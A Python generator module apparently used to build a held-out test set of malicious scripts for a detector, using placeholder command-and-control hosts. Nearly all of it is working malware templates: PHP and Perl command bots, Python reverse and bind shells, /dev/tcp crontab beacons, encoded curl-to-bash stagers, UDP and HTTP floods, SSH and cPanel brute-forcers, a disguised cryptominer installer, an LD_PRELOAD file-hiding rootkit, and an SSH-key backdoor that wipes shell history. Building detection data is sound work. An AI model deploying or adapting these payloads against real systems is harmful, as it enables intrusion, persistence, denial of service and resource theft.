"""Malicious Perl, Python, shell, crontab and PHP-CLI of the second held-out
set: bots, beacons, persistence, miners, rootkit droppers. A template returns
a list of (rel, text, lang). Written blind (README.md); addresses are
documentation ranges and example domains."""

import base64

from common import c2, hexname, rword


def _port(r):
    return r.choice((443, 8443, 53, 8080, 2053, 6697, 5222, 993))


def _sb(r, lang):
    return {"perl": r.choice(("#!/usr/bin/perl", "#!/usr/bin/env perl")),
            "python": r.choice(("#!/usr/bin/env python3", "#!/usr/bin/python3", "# -*- coding: utf-8 -*-")),
            "sh": r.choice(("#!/bin/bash", "#!/bin/sh", "#!/usr/bin/env bash"))}[lang]


def _hidden_dir(r):
    return r.choice((".config/.%s" % rword(r, 4), ".cache/.x", ".local/share/.dbus-%s" % hexname(r, 4),
                     "tmp/.ICE-unix/.%s" % rword(r, 3), ".ssh/.k"))


# ---------------------------------------------------------------------------
# PHP CLI


def php_irc_stream(r, S):
    """PHP CLI IRC bot over stream_socket_client with TLS, commands in
    PRIVMSG, run via proc_open, forks itself into the background."""
    ch = "#" + rword(r, 5)
    return [("%s/%s.php" % (r.choice(("tmp", ".cache", "wp-content/uploads")), r.choice(("php-fpm", "cron", "s"))), "\n".join([
        "<?php", "if (php_sapi_name() !== 'cli') { exit; }",
        "if (function_exists('pcntl_fork') && pcntl_fork() > 0) { exit(0); }",
        "if (function_exists('cli_set_process_title')) { cli_set_process_title('php-fpm: pool www'); }",
        "$s = stream_socket_client('tls://%s:%d', $e, $es, 30);" % (c2(r), 6697),
        "$n = 'u' . mt_rand(1000, 9999);",
        "fwrite($s, \"NICK $n\\r\\nUSER $n 0 * :$n\\r\\nJOIN %s\\r\\n\");" % ch,
        "while (!feof($s)) {",
        "  $l = fgets($s, 1024);",
        "  if (strpos($l, 'PING') === 0) { fwrite($s, 'PONG' . substr($l, 4)); continue; }",
        "  if (preg_match('/:(\\S+)!\\S+ PRIVMSG (\\S+) :!(\\w+) ?(.*)/', $l, $m)) {",
        "    if ($m[3] == 'sh') {",
        "      $p = proc_open($m[4], array(1 => array('pipe', 'w'), 2 => array('pipe', 'w')), $io);",
        "      foreach (explode(\"\\n\", stream_get_contents($io[1])) as $o) { fwrite($s, \"PRIVMSG {$m[2]} :$o\\r\\n\"); }",
        "    } elseif ($m[3] == 'dl') { file_put_contents(basename($m[4]), file_get_contents($m[4])); }",
        "  }", "}", ""]), "php")]


def php_udp_flood(r, S):
    """PHP flood: fwrite to udp:// for a given time, or HTTP GETs with
    curl_multi, target and time from argv or the request."""
    if r.random() < 0.5:
        body = ["$h = $_GET['h'] ?? $argv[1]; $t = (int) ($_GET['t'] ?? $argv[2]); $end = time() + $t;",
                "$pk = str_repeat(chr(mt_rand(0, 255)), 65000); $c = 0;",
                "while (time() < $end) {", "  $fp = @fsockopen('udp://' . $h, mt_rand(1, 65535), $e, $s, 1);",
                "  if ($fp) { fwrite($fp, $pk); fclose($fp); $c++; }", "}", "echo \"$c packets\";"]
    else:
        body = ["$u = $_POST['url'] ?? $argv[1]; $n = (int) ($_POST['n'] ?? 200);", "$mh = curl_multi_init();",
                "for ($k = 0; $k < 50; $k++) {", "  for ($i = 0; $i < $n; $i++) { $c = curl_init($u . '?' . mt_rand());",
                "    curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); curl_setopt($c, CURLOPT_TIMEOUT, 2);",
                "    curl_setopt($c, CURLOPT_USERAGENT, 'Mozilla/5.0 (' . mt_rand() . ')'); curl_multi_add_handle($mh, $c); }",
                "  do { curl_multi_exec($mh, $run); } while ($run > 0);", "}"]
    return [("%s/%s.php" % (r.choice(("wp-admin/includes", "tmp", "images")), r.choice(("u", "load", "ping", "x1"))),
             "<?php\nset_time_limit(0); ignore_user_abort(true);\n" + "\n".join(body) + "\n", "php")]


def php_http_poll(r, S):
    """A PHP bot that polls a C2 over HTTP for tasks, runs them, posts the
    output back; started from cron with php -q."""
    return [(".%s/%s.php" % (rword(r, 4), r.choice(("up", "agent", "sync"))), "\n".join([
        "<?php", "$id = md5(gethostname() . get_current_user());", "while (true) {",
        "  $t = @file_get_contents('http://%s/t?id=' . $id);" % c2(r),
        "  if ($t && ($j = json_decode($t, true)) && !empty($j['cmd'])) {",
        "    $o = shell_exec($j['cmd'] . ' 2>&1');",
        "    $ctx = stream_context_create(array('http' => array('method' => 'POST', 'content' => http_build_query(array('id' => $id, 'o' => $o)))));",
        "    @file_get_contents('http://%s/r', false, $ctx);" % c2(r), "  }", "  sleep(%d);" % r.randint(30, 600), "}", ""]), "php")]


# ---------------------------------------------------------------------------
# Python


def py_http_c2(r, S):
    """Python bot: urllib poll of a C2, subprocess for tasks, results back,
    with a jittered sleep and a double fork."""
    return [("%s/%s.py" % (_hidden_dir(r), r.choice(("update", "dbus", "sync"))), "\n".join([
        _sb(r, "python"), "import json, os, random, socket, subprocess, time, urllib.request", "",
        "C2 = 'http://%s:%d'" % (c2(r), _port(r)), "ID = socket.gethostname() + '-' + str(os.getuid())", "",
        "def task():", "    with urllib.request.urlopen(C2 + '/task?id=' + ID, timeout=20) as r:", "        return json.loads(r.read())", "",
        "def main():", "    if os.fork():", "        os._exit(0)", "    os.setsid()", "    if os.fork():", "        os._exit(0)",
        "    while True:", "        try:", "            t = task()",
        "            if t.get('cmd'):",
        "                out = subprocess.run(t['cmd'], shell=True, capture_output=True, timeout=120).stdout",
        "                urllib.request.urlopen(C2 + '/res', data=json.dumps({'id': ID, 'out': out.decode(errors='ignore')}).encode())",
        "        except Exception:", "            pass", "        time.sleep(60 + random.randint(0, 120))", "", "main()", ""]), "python")]


def py_socket_shell(r, S):
    """Python bind or reverse shell with socket + subprocess (not dup2/pty),
    reconnecting forever."""
    k = r.randint(0, 1)
    if k == 0:
        body = ["import socket, subprocess, time", "while True:", "    try:", "        s = socket.create_connection(('%s', %d))" % (c2(r), _port(r)),
                "        while True:", "            c = s.recv(4096).decode().strip()", "            if not c:", "                break",
                "            p = subprocess.Popen(c, shell=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)",
                "            s.sendall(p.communicate()[0] or b'\\n')", "    except OSError:", "        time.sleep(30)"]
    else:
        body = ["import socket, subprocess", "srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)",
                "srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)", "srv.bind(('0.0.0.0', %d))" % r.choice((31337, 48101, 2222, 65000)),
                "srv.listen(1)", "while True:", "    conn, _ = srv.accept()", "    conn.send(b'$ ')", "    data = conn.recv(1024)",
                "    while data:", "        conn.send(subprocess.check_output(data, shell=True, stderr=subprocess.STDOUT) + b'$ ')",
                "        data = conn.recv(1024)"]
    return [("%s/%s" % (_hidden_dir(r), r.choice(("x.py", "httpd", "kthread.py"))), _sb(r, "python") + "\n" + "\n".join(body) + "\n", "python")]


def py_ssh_brute(r, S):
    """An SSH brute-forcer with paramiko over a target list and a password
    list, writing hits to a file."""
    return [("%s/%s.py" % (r.choice(("tmp/.s", ".cache/s", "scan")), r.choice(("ssh", "go", "chk"))), "\n".join([
        _sb(r, "python"), "import sys, threading, paramiko", "",
        "hosts = [l.strip() for l in open(sys.argv[1])]", "pwds = [l.strip() for l in open(sys.argv[2])]", "",
        "def try_host(h):", "    for line in pwds:", "        user, pw = line.split(':', 1)", "        c = paramiko.SSHClient()",
        "        c.set_missing_host_key_policy(paramiko.AutoAddPolicy())", "        try:",
        "            c.connect(h, username=user, password=pw, timeout=5, banner_timeout=5)",
        "            open('vuln.txt', 'a').write('%s %s %s\\n' % (h, user, pw))",
        "            c.exec_command('curl -s http://%s/i.sh | sh')" % c2(r), "            return",
        "        except Exception:", "            pass", "        finally:", "            c.close()", "",
        "for h in hosts:", "    threading.Thread(target=try_host, args=(h,)).start()", ""]), "python")]


def py_miner_launcher(r, S):
    """Python that fetches a miner, renames it to look like a kernel thread,
    starts it with a pool URL and wallet and hides it."""
    name = r.choice(("kswapd0", "[kworker/0:2]", "systemd-journal", "kdevtmpfsi", "dbus-daemon"))
    return [("%s/%s" % (_hidden_dir(r), "run.py"), "\n".join([
        _sb(r, "python"), "import os, stat, subprocess, urllib.request", "",
        "d = os.path.expanduser('~/.cache/.%s')" % rword(r, 4), "os.makedirs(d, exist_ok=True)", "b = os.path.join(d, %r)" % name,
        "if not os.path.exists(b):", "    urllib.request.urlretrieve('http://%s/x86_64', b)" % c2(r),
        "    os.chmod(b, stat.S_IRWXU)",
        "subprocess.Popen([b, '-o', 'stratum+tcp://pool.example.net:%d', '-u', '4%s', '-p', 'x', '--donate-level=0', '-B'],"
        % (r.choice((3333, 5555, 14444)), rword(r, 60, "0123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz")),
        "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)", ""]), "python")]


# ---------------------------------------------------------------------------
# shell, crontab


def sh_crontab_beacon(r, S):
    """A crontab spool/file line with a bash /dev/tcp beacon, or a curl|sh
    every few minutes, sometimes base64'd."""
    h, p = c2(r), _port(r)
    line = r.choice((
        "*/5 * * * * /bin/bash -c 'bash -i >& /dev/tcp/%s/%d 0>&1'" % (h, p),
        "*/10 * * * * (curl -fsSL http://%s/c.sh || wget -q -O- http://%s/c.sh) | sh > /dev/null 2>&1" % (h, h),
        "@reboot /bin/bash -c 'exec 3<>/dev/tcp/%s/%d; cat <&3 | sh >&3 2>&3'" % (h, p),
        "* * * * * echo %s | base64 -d | bash" % base64.b64encode(("bash -i >& /dev/tcp/%s/%d 0>&1" % (h, p)).encode()).decode(),
        "0 */2 * * * exec 5<>/dev/tcp/%s/80; echo -e 'GET /b HTTP/1.0\\r\\n\\r\\n' >&5; sed '1,/^\\r$/d' <&5 | bash" % h))
    text = "# DO NOT EDIT THIS FILE - edit the master and reinstall.\nMAILTO=\"\"\n%s\n" % line
    return [(r.choice(("var/spool/cron/crontabs/%s" % rword(r, 5), "etc/cron.d/0%s" % rword(r, 4), ".cache/cron.txt")), text, "crontab")]


def sh_authorized_keys(r, S):
    """A shell that adds an attacker key to authorized_keys (every user it can
    write), makes it immutable and clears history."""
    key = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ%s %s" % (rword(r, 200, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"),
                                                        r.choice(("root@localhost", "admin@example.com", "")))
    body = ["K='%s'" % key, "for d in /root /home/*; do", "  mkdir -p \"$d/.ssh\" 2>/dev/null",
            "  grep -q \"${K:40:20}\" \"$d/.ssh/authorized_keys\" 2>/dev/null || echo \"$K\" >> \"$d/.ssh/authorized_keys\"",
            "  chmod 600 \"$d/.ssh/authorized_keys\"; chattr +i \"$d/.ssh/authorized_keys\" 2>/dev/null", "done",
            "unset HISTFILE; history -c; rm -f ~/.bash_history"]
    return [("%s/%s.sh" % (r.choice(("tmp", ".x", "var/tmp")), r.choice(("k", "init", "s"))), _sb(r, "sh") + "\n" + "\n".join(body) + "\n", "sh")]


def sh_miner_rename(r, S):
    """A miner installer: fetches with curl/wget fallback, renames the binary
    to a kernel-thread name, kills competitors, persists in cron."""
    name = r.choice(("kswapd0", "kthreaddi", ".systemd-login", "ksoftirqd", "networkservice"))
    body = ["D=/tmp/.X11-unix/.%s; mkdir -p $D; cd $D" % rword(r, 3),
            "pkill -9 -f xmrig 2>/dev/null; pkill -9 -f kdevtmpfsi; ps aux | grep -v grep | grep -E 'minerd|cryptonight' | awk '{print $2}' | xargs -r kill -9",
            "get() { curl -fsSL \"$1\" -o \"$2\" || wget -q \"$1\" -O \"$2\" || python3 -c \"import urllib.request as u;u.urlretrieve('$1','$2')\"; }",
            "get http://%s/xm.tar.gz x.tgz && tar xzf x.tgz && mv xmrig %s && rm -f x.tgz" % (c2(r), name),
            "cat > config.json <<EOF", "{\"pools\":[{\"url\":\"pool.example.org:%d\",\"user\":\"%s\",\"pass\":\"x\"}],\"cpu\":{\"max-threads-hint\":75}}"
            % (r.choice((443, 3333, 7777)), rword(r, 50)), "EOF",
            "chmod +x %s; nohup ./%s -c config.json >/dev/null 2>&1 &" % (name, name),
            "(crontab -l 2>/dev/null | grep -v %s; echo \"@reboot cd $D && ./%s -c config.json\") | crontab -" % (name, name)]
    return [("%s/%s" % (r.choice(("tmp", "var/tmp", ".cache")), r.choice(("i.sh", "ldr.sh", "x"))), _sb(r, "sh") + "\n" + "\n".join(body) + "\n", "sh")]


def sh_ld_preload(r, S):
    """A userland-rootkit dropper: fetches or builds a .so that hides
    processes/files and registers it in /etc/ld.so.preload."""
    so = r.choice(("/usr/local/lib/libsystemd-shared.so", "/lib/x86_64-linux-gnu/libpam.so.2", "/usr/lib/libcurl-ext.so"))
    k = r.randint(0, 1)
    if k == 0:
        get = "curl -fsSL http://%s/l.so -o %s || wget -qO %s http://%s/l.so" % (c2(r), so, so, c2(r))
    else:
        get = ("cat > /tmp/h.c <<'EOF'\n#define _GNU_SOURCE\n#include <dirent.h>\n#include <dlfcn.h>\n#include <string.h>\n"
               "struct dirent *readdir(DIR *d) { static struct dirent *(*o)(DIR *); struct dirent *e;\n"
               "  if (!o) o = dlsym(RTLD_NEXT, \"readdir\");\n  while ((e = o(d)) && strstr(e->d_name, \"%s\")) ;\n  return e; }\nEOF\n"
               "gcc -shared -fPIC -o %s /tmp/h.c -ldl && rm -f /tmp/h.c" % (rword(r, 5), so))
    body = [get, "chmod 755 %s" % so, "grep -q %s /etc/ld.so.preload 2>/dev/null || echo %s >> /etc/ld.so.preload" % (so, so),
            "touch -r /bin/ls %s /etc/ld.so.preload" % so]
    return [("%s/%s" % (r.choice(("tmp", "dev/shm", "var/tmp")), r.choice(("p.sh", ".r", "fix.sh"))), _sb(r, "sh") + "\n" + "\n".join(body) + "\n", "sh")]


def sh_profile_persist(r, S):
    """Persistence in ~/.bashrc / ~/.profile or a systemd user unit that
    re-spawns a beacon."""
    h, p = c2(r), _port(r)
    k = r.randint(0, 1)
    if k == 0:
        text = ("# ~/.bashrc: executed by bash(1) for non-login shells.\ncase $- in *i*) ;; *) return;; esac\nalias ll='ls -alF'\n"
                "( nohup bash -c 'while :; do bash -i >& /dev/tcp/%s/%d 0>&1; sleep 300; done' >/dev/null 2>&1 & ) 2>/dev/null\n" % (h, p))
        return [("home/%s/.bashrc" % rword(r, 5), text, "sh")]
    text = ("[Unit]\nDescription=D-Bus User Session Helper\n\n[Service]\nExecStart=/bin/bash -c 'curl -s http://%s/k | bash'\n"
            "Restart=always\nRestartSec=600\n\n[Install]\nWantedBy=default.target\n" % h)
    return [("home/%s/.config/systemd/user/dbus-helper.service" % rword(r, 5), text, "conf")]


def sh_encoded_stager(r, S):
    """A shell stager hidden by rev/base64/xxd/printf hex layers piped into
    sh or eval'd."""
    inner = "curl -s http://%s/s | bash; bash -i >& /dev/tcp/%s/%d 0>&1" % (c2(r), c2(r), _port(r))
    k = r.randint(0, 3)
    if k == 0:
        body = "echo '%s' | rev | base64 -d | sh" % base64.b64encode(inner.encode()).decode()[::-1]
    elif k == 1:
        body = "eval \"$(echo %s | xxd -r -p)\"" % inner.encode().hex()
    elif k == 2:
        body = "$(printf '%s')" % "".join("\\x%02x" % c for c in inner.encode())
    else:
        v = rword(r, 3)
        b = base64.b64encode(inner.encode()).decode()
        cut = len(b) // 2
        body = "%s1='%s'\n%s2='%s'\necho \"${%s1}${%s2}\" | base64 --decode | bash" % (v, b[:cut], v, b[cut:], v, v)
    return [("%s/%s" % (r.choice(("tmp", "wp-content/uploads", ".cache")), r.choice(("up.sh", ".s", "a"))), _sb(r, "sh") + "\n" + body + "\n", "sh")]


# ---------------------------------------------------------------------------
# Perl


def pl_http_bot(r, S):
    """A Perl bot that renames itself, daemonises and polls an HTTP C2 with
    LWP or IO::Socket, running the commands it gets."""
    k = r.randint(0, 1)
    mask = r.choice(("/usr/sbin/apache2 -k start", "[kworker/u8:1]", "php-fpm: pool www", "/usr/lib/systemd/systemd-udevd"))
    if k == 0:
        net = ["use LWP::UserAgent;", "my $ua = LWP::UserAgent->new(timeout => 30, agent => 'Mozilla/5.0');",
               "sub get_task { my $r = $ua->get('http://%s/q?h=' . `hostname`); return $r->is_success ? $r->decoded_content : ''; }" % c2(r),
               "sub put_res { $ua->post('http://%s/a', { o => $_[0] }); }" % c2(r)]
    else:
        net = ["use IO::Socket::INET;",
               "sub get_task { my $s = IO::Socket::INET->new(PeerAddr => '%s', PeerPort => 80) or return ''; print $s \"GET /q HTTP/1.0\\r\\n\\r\\n\"; local $/; my $b = <$s>; $b =~ s/^.*?\\r\\n\\r\\n//s; return $b; }" % c2(r),
               "sub put_res { my $s = IO::Socket::INET->new(PeerAddr => '%s', PeerPort => 80) or return; print $s \"POST /a HTTP/1.0\\r\\nContent-Length: \" . length($_[0]) . \"\\r\\n\\r\\n$_[0]\"; }" % c2(r)]
    body = [_sb(r, "perl"), "use strict; use POSIX qw(setsid);"] + net + [
        "$0 = '%s';" % mask, "exit if fork; setsid; exit if fork;", "open STDIN, '</dev/null'; open STDOUT, '>/dev/null';",
        "while (1) {", "  my $t = get_task();", "  if ($t =~ /^run:(.+)/s) { my $o = `$1 2>&1`; put_res($o); }",
        "  sleep(%d + int(rand(60)));" % r.randint(30, 300), "}", ""]
    return [("%s/%s" % (r.choice(("cgi-bin", "tmp", ".cache")), r.choice(("s.pl", "up.cgi", ".httpd"))), "\n".join(body), "perl")]


def pl_cpanel_brute(r, S):
    """A Perl brute-forcer against cPanel/WHM logins of the server's own
    users (/etc/passwd) with a word list."""
    return [("%s/cp.pl" % r.choice(("tmp", "cgi-bin")), "\n".join([
        _sb(r, "perl"), "use strict; use LWP::UserAgent; use MIME::Base64;",
        "my $ua = LWP::UserAgent->new(ssl_opts => { verify_hostname => 0 }, timeout => 10);",
        "open(my $pw, '<', '/etc/passwd'); my @users = map { (split /:/)[0] } grep { /\\/home\\// } <$pw>;",
        "open(my $wl, '<', $ARGV[0] || 'pass.txt'); chomp(my @words = <$wl>);",
        "for my $u (@users) { for my $w (@words, $u, $u . '123') {",
        "  my $r = $ua->get('https://127.0.0.1:2083/', Authorization => 'Basic ' . encode_base64(\"$u:$w\", ''));",
        "  if ($r->code == 200) { open(my $o, '>>', '.found'); print $o \"$u:$w\\n\"; last; }", "} }", ""]), "perl")]


TEMPLATES = [
    ("php", "php_irc_tls", php_irc_stream, 4), ("php", "php_flood", php_udp_flood, 5), ("php", "php_http_poll", php_http_poll, 4),
    ("python", "py_http_c2", py_http_c2, 5), ("python", "py_socket_shell", py_socket_shell, 5),
    ("python", "py_ssh_brute", py_ssh_brute, 3), ("python", "py_miner_launcher", py_miner_launcher, 3),
    ("crontab", "crontab_beacon", sh_crontab_beacon, 6), ("sh", "authorized_keys_writer", sh_authorized_keys, 4),
    ("sh", "miner_rename", sh_miner_rename, 5), ("sh", "ld_preload_dropper", sh_ld_preload, 4),
    ("sh", "profile_persistence", sh_profile_persist, 4), ("sh", "encoded_stager", sh_encoded_stager, 5),
    ("perl", "perl_http_bot", pl_http_bot, 5), ("perl", "perl_cpanel_brute", pl_cpanel_brute, 2),
]
